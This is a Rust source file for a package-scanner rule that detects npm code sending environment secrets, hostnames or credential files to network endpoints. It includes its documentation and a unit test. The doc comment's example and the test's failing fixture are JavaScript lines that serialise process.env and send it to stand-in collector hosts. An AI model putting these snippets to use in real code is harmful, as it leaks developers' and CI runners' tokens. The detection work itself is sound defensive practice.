//! `exfiltration`: secrets or host data flowing to a network sink.

use crate::declare_rule;
use crate::detect::behavior::{Technique, report_technique};
use crate::rule::{Rule, RuleContext, RuleMeta};
use ferret_core::PackageFacts;

declare_rule! {
    /// ## What it does
    /// Flags code that collects secrets or host data and sends them over the network: the whole
    /// `process.env` or secret-named variables (`*TOKEN*`, `*SECRET*`, `*PASSWORD*`, `AWS_*`),
    /// `os.hostname()`/`os.userInfo()`/`os.networkInterfaces()`, the contents of credential files,
    /// or cloud-metadata credentials, in the same file as an HTTP request, a DNS lookup or a
    /// messenger webhook; or across the files that run at install time.
    ///
    /// ## Why is this a risk?
    /// This is what most malicious npm packages do: a `postinstall` script posts the developer's or
    /// CI runner's environment (npm, GitHub and cloud tokens) to a collector, often as a base64
    /// query string or in DNS names that pass through firewalls.
    ///
    /// ## Example
    /// ```js
    /// const d = Buffer.from(JSON.stringify(process.env)).toString('base64');
    /// require('https').get('https://collector.example/p?d=' + d);
    /// ```
    ///
    /// ## False positives
    /// Proxy variables (`HTTP_PROXY`), `npm_config_*`, CI detection (`process.env.CI`) and debug
    /// flags are not secrets. A library that sends a token to the API it belongs to (reading
    /// `GITHUB_TOKEN` to call GitHub) is only monitored; install-time code, requests on load and
    /// request-catcher/webhook/raw-IP endpoints raise it to a warning.
    ///
    /// ## References
    /// - GuardDog `threat-network-exfil-*`, `threat-network-dns-exfil`; MITRE ATT&CK T1041, T1048
    Exfiltration, id = "exfiltration", category = Malicious, severity = High, action = Warn,
}

impl Rule for Exfiltration {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check_package(&self, pkg: &PackageFacts, cx: &mut RuleContext) {
        report_technique(&Self::META, Technique::Exfiltration, pkg, cx);
    }
}

#[cfg(test)]
mod tests {
    use crate::tester::Tester;

    #[test]
    fn exfiltration() {
        Tester::new(super::Exfiltration)
            .pass_package([("index.js", "const http = require('http');\nhttp.get('http://localhost:' + (process.env.PORT || 80));")])
            .fail_package([("index.js", "const https = require('https');\nconst d = JSON.stringify(process.env);\nhttps.request({host: 'c.example', method: 'POST'}).end(d);")])
            .test_and_snapshot();
    }
}
